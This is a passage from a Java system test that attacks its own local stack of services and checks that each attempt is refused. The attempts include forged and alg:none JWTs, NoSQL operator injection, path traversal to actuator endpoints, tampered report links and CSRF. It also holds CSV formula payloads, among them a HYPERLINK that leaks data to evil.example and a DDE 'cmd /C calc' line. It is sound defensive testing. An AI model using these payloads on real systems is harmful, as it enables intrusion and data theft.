package org.coophub.systemtests.security;

import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.regex.Pattern;
import java.util.stream.StreamSupport;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

import org.coophub.localstack.LocalStack;
import org.coophub.localstack.demo.DemoData;
import org.coophub.localstack.process.StackService;
import org.coophub.systemtests.SharedStack;
import org.coophub.systemtests.security.AttackHttp.Answer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Tries, against the running local stack over HTTP, what an attacker would: forged,
 * tampered, expired and misused tokens, writes beyond one's role or organization,
 * operator injection, hostile text and bodies, path tricks, open actuator endpoints,
 * answers for a party one does not speak for, doctored report links and missing security
 * headers. Every attempt must be refused (and store nothing where it would write); the
 * tally per category goes to {@code target/attack-sweep.md}, and an attempt that got
 * through names itself in the failure. Runs before {@code AutomaticReportSystemTest}
 * moves the shared stack's clocks (this class moves none).
 */
@Order(20)
class AttackSweepSystemTest {

	static final Duration PROPAGATION = Duration.ofSeconds(60);

	static final Path REPORT = Path.of("target", "attack-sweep.md");

	/** One read per service that needs a token. */
	static final Map<StackService, String> READS = Map.of(StackService.AGREEMENT, "/api/v1/agreements",
			StackService.ACTIVITY, "/api/v1/activities", StackService.REPORTING, "/api/v1/dashboard",
			StackService.NOTIFICATION, "/api/v1/notifications");

	/**
	 * Actuator endpoints that must not answer without a token (none but health and info).
	 */
	static final List<String> ACTUATOR = List.of("/actuator/env", "/actuator/beans", "/actuator/configprops",
			"/actuator/heapdump", "/actuator/loggers", "/actuator/mappings", "/actuator/metrics",
			"/actuator/prometheus", "/actuator/clock", "/actuator/threaddump");

	/** The workspace's session cookie (its application.yml). */
	static final String WORKSPACE_SESSION = "COOPHUB_WORKSPACE_SESSION";

	/** Where the workspace sends a browser without a session: its sign-in start. */
	static final String WORKSPACE_SIGN_IN = "/oauth2/authorization/identity";

	static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?leak\")", "@SUM(A1:A9)",
			"+1+cmd|' /C calc'!A0", "-2+3");

	private final LocalStack stack = SharedStack.get();

	private final AttackHttp http = new AttackHttp();

	private final AttackLedger ledger = new AttackLedger();

	private final List<String> preconditions = new ArrayList<>();

	private final String suffix = UUID.randomUUID().toString().substring(0, 6).toUpperCase(Locale.ROOT);

	private String lamDong;

	private String stranger;

	private String agreement;

	/** The agreement's ETag after its activation: refused writes must leave it. */
	private String agreementVersion;

	/** A draft between BQL-LD and ATK-X whose parties have both not answered yet. */
	private String pendingDraft;

	private String demoAgreement;

	private UserSignIn.Tokens ldViewer;

	private UserSignIn.Tokens ldEditor;

	private UserSignIn.Tokens hcmEditor;

	@Test
	void everyAttackIsRefusedAndStoresNothing() {
		long started = System.nanoTime();
		prepare();
		tokens();
		viewerWrites();
		otherOrganizationsEditor();
		partyAnswers();
		reportAnnouncements();
		queryInjection();
		bodiesAndText();
		pathsAndActuator();
		signedReportLinks();
		securityHeaders();
		workspaceFrontDoor();
		Duration took = Duration.ofNanos(System.nanoTime() - started);
		this.ledger.writeTo(REPORT, took);

		assertThat(this.preconditions).as("what the sweep needs to mean anything").isEmpty();
		assertThat(this.ledger.failures()).as("attacks that got through (%s)", REPORT.toAbsolutePath()).isEmpty();
		assertThat(this.ledger.tried()).isGreaterThan(100);
	}

	/**
	 * A third organization and an agreement between it and BQL-LD (ADMIN, so both parties
	 * accept before the activation): BQL-HCM is no party to it; a second such agreement
	 * stays a draft nobody has answered for. Demo users' tokens through the real sign-in
	 * form. Waits until every service knows the agreement, so refusals are about the
	 * caller, not "not known yet"; the activities recorded for that (CSV rows with
	 * formula titles) are the formula attack's payload.
	 */
	private void prepare() {
		Map<String, String> organizations = organizationIdsByCode();
		this.lamDong = organizations.get("BQL-LD");
		this.stranger = adminCreated(StackService.AGREEMENT, "/api/v1/organizations", """
				{"code":"ATK-X-%s","name":{"vi":"Ban Quản lý KCN Đức Trọng","en":"Duc Trong Industrial Zone Authority"},
				 "kind":"INDUSTRIAL_ZONE_AUTHORITY","province":"Lâm Đồng",
				 "contacts":[{"name":"Văn phòng","email":"vanphong-%s@attack-x.example","language":"vi"}]}
				""".formatted(this.suffix, this.suffix.toLowerCase(Locale.ROOT))).get("id").asString();
		this.agreement = adminCreated(StackService.AGREEMENT, "/api/v1/agreements", agreementBody("ATK-" + this.suffix,
				"Chương trình hợp tác Lâm Đồng – Đức Trọng " + this.suffix, this.lamDong, this.stranger))
			.get("id")
			.asString();
		String version = "\"1\"";
		for (String party : List.of(this.lamDong, this.stranger)) {
			Answer accepted = this.http.send(
					url(StackService.AGREEMENT,
							"/api/v1/agreements/" + this.agreement + "/parties/" + party + "/accept"),
					"POST", admin(), (byte[]) null, "If-Match", version);
			precondition(accepted.status() == 200, "ADMIN accepts for " + party, accepted);
			version = accepted.header("etag");
		}
		Answer activated = this.http.send(
				url(StackService.AGREEMENT, "/api/v1/agreements/" + this.agreement + "/activate"), "POST", admin(),
				(byte[]) null, "If-Match", version);
		precondition(activated.status() == 200, "activation", activated);
		this.agreementVersion = activated.header("etag");
		this.pendingDraft = adminCreated(StackService.AGREEMENT, "/api/v1/agreements", agreementBody(
				"ATK-P-" + this.suffix, "Chương trình chờ chấp thuận " + this.suffix, this.lamDong, this.stranger))
			.get("id")
			.asString();
		this.demoAgreement = this.stack.demoData().map(DemoData.Outcome::agreementId).orElse(null);
		precondition(this.demoAgreement != null && organizations.containsKey("BQL-HCM"), "the demo data",
				organizations);

		UserSignIn signIn = new UserSignIn(this.stack);
		this.ldViewer = new UserSignIn(this.stack).tokens("ld-viewer");
		this.ldEditor = signIn.tokens("ld-editor");
		this.hcmEditor = new UserSignIn(this.stack).tokens("hcm-editor");
		precondition("BQL-HCM".equals(ForgedTokens.claims(this.hcmEditor.access()).path("organization").asString()),
				"hcm-editor's token names BQL-HCM", ForgedTokens.claims(this.hcmEditor.access()));

		Answer imported = await().atMost(PROPAGATION)
			.until(() -> this.http.send(url(StackService.ACTIVITY, "/api/v1/activities:import"), "POST", admin(),
					formulaCsv().getBytes(StandardCharsets.UTF_8), "Content-Type", "text/csv"),
					(answer) -> answer.status() == 201);
		precondition(imported.status() == 201, "ADMIN imports the formula rows", imported);
		await().atMost(PROPAGATION)
			.until(() -> adminGet(StackService.REPORTING, "/api/v1/dashboard/agreements/" + this.agreement).status(),
					(status) -> status == 200);
		await().atMost(PROPAGATION)
			.until(() -> adminGet(StackService.NOTIFICATION,
					"/api/v1/agreements/" + this.agreement + "/review-schedule")
				.status(), (status) -> status == 200);
	}

	/** Tokens that are not an access token identity-service issued for the API. */
	private void tokens() {
		String category = "Tokens (401)";
		String issuer = this.stack.identityIssuer().toString();
		ForgedTokens forged = new ForgedTokens(issuer, this.ldViewer.access());
		Map<String, Object> expired = forged.adminClaims();
		expired.put("iat", Instant.now().minusSeconds(7200).getEpochSecond());
		expired.put("nbf", Instant.now().minusSeconds(7200).getEpochSecond());
		expired.put("exp", Instant.now().minusSeconds(3600).getEpochSecond());
		Map<String, Object> withoutExp = forged.adminClaims();
		withoutExp.remove("exp");
		Map<String, Object> otherIssuer = forged.adminClaims();
		otherIssuer.put("iss", "http://identity.attacker.example");
		String keys = this.http.get(this.stack.identityIssuer().resolve("/oauth2/jwks"), null).body();
		Map<String, String> attempts = new LinkedHashMap<>();
		attempts.put("no token", null);
		attempts.put("not a JWT", "not-a-jwt");
		attempts.put("expired", forged.signedWithAnotherKey(expired));
		attempts.put("tampered (VIEWER's token made ADMIN)", ForgedTokens.tampered(this.ldViewer.access()));
		attempts.put("signed by another key", forged.signedWithAnotherKey(forged.adminClaims()));
		attempts.put("alg:none", forged.unsigned(forged.adminClaims()));
		attempts.put("HS256 keyed with the published JWK set", forged.hmacWithPublicKey(forged.adminClaims(), keys));
		attempts.put("without exp", forged.signedWithAnotherKey(withoutExp));
		attempts.put("another issuer", forged.signedWithAnotherKey(otherIssuer));
		attempts.put("a real ID token (ld-editor)", this.ldEditor.id());
		for (Map.Entry<StackService, String> read : READS.entrySet()) {
			URI uri = url(read.getKey(), read.getValue());
			precondition(this.http.get(uri, this.ldViewer.access()).status() == 200, "ld-viewer reads " + uri,
					"not 200");
			attempts.forEach((name, token) -> {
				Answer answer = this.http.get(uri, token);
				this.ledger.attempt(
						category, read.getKey() + " GET " + read.getValue() + ": " + name, answer.status() == 401
								&& answer.isProblem() && answer.header("www-authenticate").startsWith("Bearer"),
						answer.toString());
			});
		}
		String code = "ATK-FORGED-" + this.suffix;
		for (String name : List.of("alg:none", "signed by another key", "a real ID token (ld-editor)")) {
			Answer answer = this.http.send(url(StackService.AGREEMENT, "/api/v1/organizations"), "POST",
					attempts.get(name), organizationBody(code));
			this.ledger.attempt(category, "agreement-service POST /api/v1/organizations: " + name,
					answer.status() == 401, answer.toString());
		}
		this.ledger.attempt(category, "nothing stored by the forged writes", !organizationIdsByCode().containsKey(code),
				"organization " + code + " exists");
		URI signingKeys = this.stack.identityIssuer().resolve("/admin/signing-keys");
		for (String name : List.of("no token", "a real ID token (ld-editor)", "alg:none")) {
			Answer answer = this.http.get(signingKeys, attempts.get(name));
			this.ledger.attempt(category, "identity-service GET /admin/signing-keys: " + name, answer.status() == 401,
					answer.toString());
		}
		Answer viewer = this.http.get(signingKeys, this.ldViewer.access());
		this.ledger.attempt("VIEWER writes (403)", "identity-service GET /admin/signing-keys as ld-viewer",
				viewer.status() == 403, viewer.toString());
	}

	/** ld-viewer's real token, for every kind of write. */
	private void viewerWrites() {
		String category = "VIEWER writes (403)";
		String token = this.ldViewer.access();
		for (Write write : writes(token, true)) {
			Answer answer = write.send();
			this.ledger.attempt(category, "ld-viewer " + write.name(), answer.status() == 403 && answer.isProblem(),
					answer.toString());
		}
		Answer own = this.http.send(url(StackService.AGREEMENT, "/api/v1/organizations/" + this.lamDong), "PATCH",
				token, "{\"province\":\"Hà Nội\"}", "If-Match",
				etag(StackService.AGREEMENT, "/api/v1/organizations/" + this.lamDong));
		this.ledger.attempt(category, "ld-viewer PATCH its own organization", own.status() == 403, own.toString());
		nothingStored(category);
	}

	/** hcm-editor's real token (BQL-HCM), on an agreement BQL-HCM is no party to. */
	private void otherOrganizationsEditor() {
		String category = "Another organization's EDITOR (403)";
		for (Write write : writes(this.hcmEditor.access(), false)) {
			Answer answer = write.send();
			this.ledger.attempt(category, "hcm-editor " + write.name(),
					(answer.status() == 403 || (write.name().contains("import") && answer.status() == 422))
							&& answer.isProblem(),
					answer.toString());
		}
		nothingStored(category);
	}

	/**
	 * Answers for a party of the pending draft by someone who does not speak for it:
	 * another organization's EDITOR (hcm-editor), the other party's EDITOR (ld-editor for
	 * ATK-X), a VIEWER of the party itself (ld-viewer), each refused with 403; and the
	 * party's own EDITOR without If-Match, refused with 428. The draft keeps its version
	 * and both parties stay pending.
	 */
	private void partyAnswers() {
		String category = "Party consent (403/428)";
		String draftPath = "/api/v1/agreements/" + this.pendingDraft;
		String version = etag(StackService.AGREEMENT, draftPath);
		Map<String, String> tokens = Map.of("hcm-editor", this.hcmEditor.access(), "ld-editor", this.ldEditor.access(),
				"ld-viewer", this.ldViewer.access());
		List<String[]> attempts = List.of(new String[] { "hcm-editor", this.stranger, "accept" },
				new String[] { "hcm-editor", this.stranger, "decline" },
				new String[] { "hcm-editor", this.lamDong, "accept" },
				new String[] { "hcm-editor", this.lamDong, "decline" },
				new String[] { "ld-editor", this.stranger, "accept" },
				new String[] { "ld-editor", this.stranger, "decline" },
				new String[] { "ld-viewer", this.lamDong, "accept" },
				new String[] { "ld-viewer", this.lamDong, "decline" });
		for (String[] attempt : attempts) {
			String party = attempt[1].equals(this.lamDong) ? "BQL-LD" : "ATK-X";
			Answer answer = this.http.send(
					url(StackService.AGREEMENT, draftPath + "/parties/" + attempt[1] + "/" + attempt[2]), "POST",
					tokens.get(attempt[0]), "{\"note\":\"thay mặt người khác\"}", "If-Match", version);
			this.ledger.attempt(category, attempt[0] + " " + attempt[2] + "s for " + party,
					answer.status() == 403 && answer.isProblem(), answer.toString());
		}
		Answer unconditional = this.http.send(
				url(StackService.AGREEMENT, draftPath + "/parties/" + this.lamDong + "/accept"), "POST",
				this.ldEditor.access(), (byte[]) null);
		this.ledger.attempt(category, "ld-editor accepts for BQL-LD without If-Match",
				unconditional.status() == 428 && unconditional.isProblem(), unconditional.toString());
		Answer draft = adminGet(StackService.AGREEMENT, draftPath);
		this.ledger.attempt(category, "nothing stored: the draft keeps its version, both parties pending",
				version.equals(draft.header("etag")) && draft.json().path("awaitingAcceptance").size() == 2,
				draft.toString());
	}

	private void reportAnnouncements() {
		String category = "Report announcements (403/422)";
		String path = "/api/v1/agreements/" + this.agreement + "/reports/";
		Answer stranger = this.http.send(url(StackService.REPORTING, path + "2020"), "POST", this.hcmEditor.access(),
				(byte[]) null);
		this.ledger.attempt(category, "hcm-editor (no party) announces 2020", stranger.status() == 403,
				stranger.toString());
		for (int year : List.of(1990, 2014, 2031, 2200)) {
			Answer answer = this.http.send(url(StackService.REPORTING, path + year), "POST", this.ldEditor.access(),
					(byte[]) null);
			this.ledger.attempt(category, "ld-editor (party) announces " + year + ", outside 2015–2030",
					answer.status() == 422 && answer.body().contains("year"), answer.toString());
		}
		Answer preview = this.http.send(url(StackService.NOTIFICATION, "/api/v1/reminders/preview"), "POST",
				this.hcmEditor.access(), "{\"agreementId\":\"%s\",\"recipient\":\"vanphong-%s@attack-x.example\"}"
					.formatted(this.agreement, this.suffix.toLowerCase(Locale.ROOT)));
		this.ledger.attempt(category, "hcm-editor asks whether an address is a contact (reminder preview)",
				preview.status() == 403, preview.toString());
	}

	private void queryInjection() {
		String category = "Query parameters (400)";
		String admin = admin();
		Map<String, StackService> raw = new LinkedHashMap<>();
		raw.put("/api/v1/agreements?q[$ne]=", StackService.AGREEMENT);
		raw.put("/api/v1/agreements?q[$regex]=.*", StackService.AGREEMENT);
		raw.put("/api/v1/activities?agreementId[$gt]=", StackService.ACTIVITY);
		raw.put("/api/v1/activities?agreementId%5B%24gt%5D=", StackService.ACTIVITY);
		raw.put("/api/v1/agreements?status[]=ACTIVE", StackService.AGREEMENT);
		raw.put("/api/v1/notifications?recipient[$ne]=x", StackService.NOTIFICATION);
		raw.put("/api/v1/agreements?q=%00", StackService.AGREEMENT);
		raw.put("/api/v1/activities?q=l%C3%A2m%00d", StackService.ACTIVITY);
		raw.put("/api/v1/agreements?q=%E2%80%AElam", StackService.AGREEMENT);
		raw.put("/api/v1/activities?q=%E2%81%A6x", StackService.ACTIVITY);
		raw.put("/api/v1/activities?q=%ED%A0%80", StackService.ACTIVITY);
		raw.put("/api/v1/agreements?q=x%C3%28", StackService.AGREEMENT);
		raw.put("/api/v1/organizations?sort=contacts.email", StackService.AGREEMENT);
		raw.put("/api/v1/organizations?sort=contacts.email,desc", StackService.AGREEMENT);
		raw.put("/api/v1/agreements?sort=searchTokens", StackService.AGREEMENT);
		raw.put("/api/v1/activities?sort=title.vi", StackService.ACTIVITY);
		raw.put("/api/v1/dashboard?sort=status", StackService.REPORTING);
		raw.forEach((target, service) -> {
			Answer answer = this.http.raw(this.stack.serviceUrl(service), target, admin);
			String name = service + " " + target
					+ (target.contains("%ED") || target.contains("%C3%28") ? " (not UTF-8)" : "");
			this.ledger.attempt(category, name, answer.status() == 400 && answer.isProblem(), answer.toString());
		});
		// a JSON operator as a value is taken literally: matches nothing
		for (String target : List.of("/api/v1/agreements?party=%7B%22%24ne%22%3Anull%7D",
				"/api/v1/activities?agreementId=%7B%22%24gt%22%3A%22%22%7D")) {
			StackService service = target.contains("activities") ? StackService.ACTIVITY : StackService.AGREEMENT;
			Answer answer = this.http.raw(this.stack.serviceUrl(service), target, admin);
			boolean literal = (answer.status() == 400 && answer.isProblem())
					|| (answer.status() == 200 && answer.json().path("content").isEmpty());
			this.ledger.attempt(category, service + " " + target + " (literal value, nothing found)", literal,
					answer.toString());
		}
	}

	private void bodiesAndText() {
		String category = "Bodies and text (400/413/422)";
		String admin = admin();
		String big = "{\"code\":\"ATK-BIG-" + this.suffix + "\",\"description\":\"" + "a".repeat(2 * 1024 * 1024)
				+ "\"}";
		for (StackService service : List.of(StackService.AGREEMENT, StackService.ACTIVITY)) {
			String path = (service == StackService.AGREEMENT) ? "/api/v1/agreements" : "/api/v1/activities";
			Answer answer = this.http.send(url(service, path), "POST", admin, big);
			this.ledger.attempt(category, service + " POST " + path + " with a 2 MB JSON body", answer.status() == 413,
					answer.toString());
		}
		Map<String, String> titles = new LinkedHashMap<>();
		titles.put("a right-to-left override (U+202E)", "Hợp tác \\u202Egnoud mal");
		titles.put("a first-strong isolate (U+2068)", "Hợp tác \\u2068Lâm Đồng");
		titles.put("a NUL", "Hợp tác\\u0000Lâm Đồng");
		titles.put("an escape (U+001B)", "Hợp tác \\u001B[31m");
		titles.put("an unpaired surrogate", "Hợp tác \\uD800 Lâm Đồng");
		int i = 0;
		for (Map.Entry<String, String> title : titles.entrySet()) {
			String code = "ATK-TXT" + (i++) + "-" + this.suffix;
			Answer answer = this.http.send(url(StackService.AGREEMENT, "/api/v1/agreements"), "POST", admin,
					agreementBody(code, title.getValue(), this.lamDong, this.stranger));
			this.ledger.attempt(category, "agreement title with " + title.getKey(),
					answer.status() == 400 && answer.isProblem() && answer.body().contains("title.vi"),
					answer.toString());
		}
		Answer activity = this.http.send(url(StackService.ACTIVITY, "/api/v1/activities"), "POST", admin,
				activityBody("Họp \\u202Etrinh cong"));
		this.ledger.attempt(category, "activity title with a right-to-left override",
				activity.status() == 400 && activity.body().contains("title.vi"), activity.toString());
		Answer organization = this.http.send(url(StackService.AGREEMENT, "/api/v1/organizations"), "POST", admin,
				organizationBody("ATK-BEL-" + this.suffix).replace("Ban Quản lý", "Ban\\u0007 Quản lý"));
		this.ledger.attempt(category, "organization name with a BEL", organization.status() == 400,
				organization.toString());
		Answer csv = this.http.send(url(StackService.ACTIVITY, "/api/v1/activities:import"), "POST", admin,
				csv("Hội nghị \u202Enaod mal").getBytes(StandardCharsets.UTF_8), "Content-Type", "text/csv");
		this.ledger.attempt(category, "CSV import of a title with a right-to-left override",
				csv.status() == 422 && csv.isProblem(), csv.toString());
		Answer agreements = adminGet(StackService.AGREEMENT, "/api/v1/agreements?q=atk%20" + this.suffix + "&size=50");
		// the sweep's own two: the active agreement and the draft awaiting acceptance
		this.ledger.attempt(category, "nothing stored by the refused bodies: two agreements ATK-*-" + this.suffix,
				agreements.status() == 200 && agreements.json().path("content").size() == 2, agreements.toString());

		Answer export = this.http.get(
				url(StackService.ACTIVITY, "/api/v1/activities:export?agreementId=" + this.agreement), admin, "Accept",
				"text/csv");
		for (String formula : FORMULAS) {
			String cell = formula.replace("\"", "\"\"");
			boolean neutralised = export.body().contains("'" + cell)
					&& !Pattern.compile("(^|,)\"?" + Pattern.quote(cell), Pattern.MULTILINE)
						.matcher(export.body())
						.find();
			this.ledger.attempt(category, "CSV export neutralises a title " + formula, neutralised, export.toString());
		}
		Answer stored = adminGet(StackService.ACTIVITY,
				"/api/v1/activities?agreementId=" + this.agreement + "&size=50");
		List<String> storedTitles = StreamSupport.stream(stored.json().path("content").spliterator(), false)
			.map((entry) -> entry.at("/title/vi").asString())
			.toList();
		this.ledger.attempt(category, "CSV import keeps the formula titles as typed (round trip)",
				storedTitles.containsAll(FORMULAS) && storedTitles.size() == FORMULAS.size(), storedTitles.toString());
	}

	private void pathsAndActuator() {
		String category = "Paths and actuator";
		String admin = admin();
		for (String target : List.of("/api/v1/agreements/..%2f..%2factuator/env",
				"/api/v1/agreements/..%2F..%2F..%2Factuator%2Fenv", "/api/v1/agreements/%2e%2e/%2e%2e/actuator/env",
				"/api/v1/agreements/..;/..;/actuator/env",
				"/api/v1/agreements/%252e%252e%252f%252e%252e%252factuator%252fenv")) {
			Answer answer = this.http.raw(this.stack.serviceUrl(StackService.AGREEMENT), target, admin);
			this.ledger.attempt(category, "ADMIN GET " + target,
					answer.status() >= 400 && answer.status() < 500 && !answer.body().contains("propertySources"),
					answer.toString());
		}
		Answer dotted = this.http.raw(this.stack.serviceUrl(StackService.REPORTING),
				"/api/v1/dashboard/agreements/../../../../actuator/env", null);
		this.ledger.attempt(category, "no token GET /api/v1/dashboard/agreements/../../../actuator/env",
				dotted.status() >= 400 && dotted.status() < 500 && !dotted.body().contains("propertySources"),
				dotted.toString());
		for (StackService service : StackService.values()) {
			for (String endpoint : ACTUATOR) {
				Answer answer = this.http.get(url(service, endpoint), null);
				// identity-service sends a browser without a session to its sign-in
				// form, the workspace to identity-service's (through its sign-in start)
				boolean toSignIn = answer.status() == 302 && (answer.header("location").endsWith("/login")
						|| answer.header("location").endsWith(WORKSPACE_SIGN_IN));
				this.ledger.attempt(category, service + " " + endpoint + " without a token",
						Set.of(401, 403, 404).contains(answer.status()) || toSignIn, answer.toString());
			}
			Answer health = this.http.get(url(service, "/actuator/health"), null);
			this.ledger.attempt(
					category, service + " /actuator/health without a token shows no details", health.status() == 200
							&& !health.body().contains("components") && !health.body().contains("details"),
					health.toString());
		}
	}

	private void signedReportLinks() {
		String category = "Signed report links (403)";
		long expires = Instant.now().plusSeconds(86_400).getEpochSecond();
		String signature = reportSignature(this.agreement, 2020, expires);
		Answer valid = this.http.get(url(StackService.REPORTING,
				"/reports/" + this.agreement + "/2020?expires=" + expires + "&sig=" + signature), null);
		precondition(valid.status() == 200, "a valid report link opens the report", valid.status());
		char last = signature.charAt(signature.length() - 1);
		String tampered = signature.substring(0, signature.length() - 1) + ((last == '0') ? '1' : '0');
		long past = Instant.now().minusSeconds(60).getEpochSecond();
		Map<String, String> links = new LinkedHashMap<>();
		links.put("tampered signature", "/reports/" + this.agreement + "/2020?expires=" + expires + "&sig=" + tampered);
		links.put("expired", "/reports/" + this.agreement + "/2020?expires=" + past + "&sig="
				+ reportSignature(this.agreement, 2020, past));
		links.put("another year", "/reports/" + this.agreement + "/2021?expires=" + expires + "&sig=" + signature);
		links.put("another agreement",
				"/reports/" + this.demoAgreement + "/2020?expires=" + expires + "&sig=" + signature);
		links.put("expiry pushed back a year",
				"/reports/" + this.agreement + "/2020?expires=" + (expires + 365L * 86_400) + "&sig=" + signature);
		links.put("empty signature", "/reports/" + this.agreement + "/2020?expires=" + expires + "&sig=");
		links.put("signed with another key", "/reports/" + this.agreement + "/2020?expires=" + expires + "&sig="
				+ hmac("not-the-link-key-of-this-stack", this.agreement + "\n2020\n" + expires));
		links.forEach((name, path) -> {
			Answer answer = this.http.get(url(StackService.REPORTING, path), null);
			this.ledger.attempt(category, name,
					answer.status() == 403 && !answer.header("content-type").contains("pdf"), answer.toString());
		});
	}

	/**
	 * The pages people open: the workspace's (the dashboard's among them), signed in and
	 * not, and reporting-service's annual report by signed link. reporting-service has no
	 * page of its own any more.
	 */
	private void securityHeaders() {
		String category = "Security headers";
		UserSignIn.SignedInPage signedIn = new UserSignIn(this.stack).workspacePage("ld-viewer", "index.html");
		Map<String, String> headers = new LinkedHashMap<>();
		signedIn.answer()
			.headers()
			.map()
			.forEach((name, values) -> headers.put(name.toLowerCase(Locale.ROOT), values.get(0)));
		Answer dashboard = new Answer(signedIn.answer().statusCode(), headers, signedIn.answer().body());
		precondition(dashboard.status() == 200 && dashboard.header("content-type").startsWith("text/html"),
				"ld-viewer opens the workspace's dashboard page", dashboard.status());
		workspaceHeadersHeld(category, "workspace dashboard page (signed in)", dashboard);
		String session = signedIn.cookies()
			.stream()
			.filter((cookie) -> cookie.startsWith(WORKSPACE_SESSION + "="))
			.reduce((first, last) -> last)
			.orElse("");
		precondition(!session.isEmpty(), "the workspace sets its session cookie on signing in", signedIn.cookies());
		String lowerCase = session.toLowerCase(Locale.ROOT).replace(" ", "");
		this.ledger.attempt(category, "workspace session cookie: HttpOnly (no script reads it)",
				lowerCase.contains(";httponly"), session);
		this.ledger.attempt(category, "workspace session cookie: SameSite=Lax (no cross-site POST carries it)",
				lowerCase.contains(";samesite=lax"), session);

		Answer signedOut = this.http.get(this.stack.workspaceUrl().resolve("/index.html"), null, "Accept", "text/html");
		this.ledger.attempt(category, "workspace dashboard page (not signed in): sent to the sign-in",
				signedOut.status() == 302 && signedOut.header("location").endsWith(WORKSPACE_SIGN_IN)
						&& !signedOut.body().contains("<main"),
				signedOut.status() + " " + signedOut.headers());
		workspaceHeadersHeld(category, "workspace dashboard page (not signed in)", signedOut);

		long expires = Instant.now().plusSeconds(3_600).getEpochSecond();
		Answer report = this.http.get(url(StackService.REPORTING, "/reports/" + this.agreement + "/2020?expires="
				+ expires + "&sig=" + reportSignature(this.agreement, 2020, expires)), null);
		headersHeld(category, "annual report by signed link", report);
		this.ledger.attempt(category, "annual report: X-Content-Type-Options nosniff",
				"nosniff".equals(report.header("x-content-type-options")), report.headers().toString());
		this.ledger.attempt(category, "annual report: framing refused (frame-ancestors 'none')",
				report.header("content-security-policy").contains("frame-ancestors 'none'"),
				report.headers().toString());
	}

	/**
	 * The workspace takes its own session, nothing else: a user's access token sent to it
	 * opens nothing, and a change from a signed-in browser without the CSRF header (what
	 * a page of another site could make the browser send) reaches no service. ld-editor
	 * speaks for BQL-LD, a party to the agreement: with the header, the activity would be
	 * recorded.
	 */
	private void workspaceFrontDoor() {
		String category = "Workspace (401/403)";
		URI workspace = this.stack.workspaceUrl();
		Answer bearer = this.http.get(workspace.resolve("/api/v1/agreements"), this.ldEditor.access());
		this.ledger.attempt(category, "ld-editor's access token as a bearer token, no session",
				bearer.status() == 401 && bearer.isProblem(), bearer.toString());
		Answer me = this.http.get(workspace.resolve("/api/v1/me"), null);
		this.ledger.attempt(category, "GET /api/v1/me without a session", me.status() == 401 && me.isProblem(),
				me.toString());

		UserSignIn editor = new UserSignIn(this.stack);
		editor.workspacePage("ld-editor", "index.html");
		HttpResponse<String> read = editor.fromWorkspace("GET", "/api/v1/agreements/" + this.agreement, null);
		precondition(read.statusCode() == 200, "ld-editor reads the agreement through the workspace",
				read.statusCode() + " " + read.body());
		HttpResponse<String> withoutHeader = editor.fromWorkspace("POST", "/api/v1/activities",
				activityBody("Họp qua trang khác"));
		this.ledger.attempt(category, "ld-editor's session records an activity without X-XSRF-TOKEN",
				withoutHeader.statusCode() == 403, withoutHeader.statusCode() + " " + withoutHeader.body());
		HttpResponse<String> forgedHeader = editor.fromWorkspace("POST", "/api/v1/activities",
				activityBody("Họp qua trang khác"), "X-XSRF-TOKEN", "forged-" + this.suffix);
		this.ledger.attempt(category, "ld-editor's session records an activity with a forged X-XSRF-TOKEN",
				forgedHeader.statusCode() == 403, forgedHeader.statusCode() + " " + forgedHeader.body());
		Answer activities = adminGet(StackService.ACTIVITY, "/api/v1/activities?agreementId=" + this.agreement);
		this.ledger.attempt(category, "nothing stored: no activity added",
				activities.json().at("/page/totalElements").asLong() == FORMULAS.size(), activities.toString());
	}

	/**
	 * What the workspace's pages must send: its scripts only, never in a frame (the
	 * policy's frame-ancestors and X-Frame-Options for older browsers), no sniffing, and
	 * no address sent to another site.
	 */
	private void workspaceHeadersHeld(String category, String what, Answer answer) {
		String csp = answer.header("content-security-policy");
		String seen = answer.status() + " " + answer.headers();
		this.ledger.attempt(category, what + ": Content-Security-Policy runs only its own scripts",
				csp.contains("default-src 'self'") && csp.contains("script-src 'self'") && !csp.contains("unsafe-eval")
						&& !csp.matches(".*script-src[^;]*unsafe-inline.*"),
				seen);
		this.ledger.attempt(category, what + ": framing refused (frame-ancestors 'none', X-Frame-Options DENY)",
				csp.contains("frame-ancestors 'none'") && "DENY".equals(answer.header("x-frame-options")), seen);
		this.ledger.attempt(category, what + ": X-Content-Type-Options nosniff",
				"nosniff".equals(answer.header("x-content-type-options")), seen);
		this.ledger.attempt(category, what + ": Referrer-Policy sends no address to other sites",
				Set.of("no-referrer", "same-origin").contains(answer.header("referrer-policy")), seen);
	}

	private void headersHeld(String category, String what, Answer answer) {
		String csp = answer.header("content-security-policy");
		this.ledger.attempt(category, what + ": Content-Security-Policy runs only its own scripts",
				csp.contains("default-src 'self'") && csp.contains("script-src 'self'") && !csp.contains("unsafe-eval"),
				answer.status() + " " + answer.headers());
		this.ledger.attempt(category, what + ": Referrer-Policy no-referrer",
				"no-referrer".equals(answer.header("referrer-policy")), answer.status() + " " + answer.headers());
		this.ledger.attempt(category, what + ": Permissions-Policy",
				answer.header("permissions-policy").contains("camera=()"), answer.status() + " " + answer.headers());
	}

	/**
	 * Every kind of write the services offer, aimed at the agreement BQL-HCM is no party
	 * to (valid bodies, current versions): refused only for who sends them.
	 */
	private List<Write> writes(String token, boolean viewer) {
		String agreementPath = "/api/v1/agreements/" + this.agreement;
		String version = etag(StackService.AGREEMENT, agreementPath);
		String scheduleVersion = etag(StackService.NOTIFICATION, agreementPath + "/review-schedule");
		String strangerVersion = etag(StackService.AGREEMENT, "/api/v1/organizations/" + this.stranger);
		List<Write> writes = new ArrayList<>();
		writes.add(new Write("creates an agreement between BQL-LD and ATK-X",
				() -> this.http.send(url(StackService.AGREEMENT, "/api/v1/agreements"), "POST", token,
						agreementBody("ATK-NEW-" + this.suffix, "Chương trình mạo danh " + this.suffix, this.lamDong,
								this.stranger))));
		writes.add(new Write("amends the agreement's title",
				() -> this.http.send(url(StackService.AGREEMENT, agreementPath), "PATCH", token,
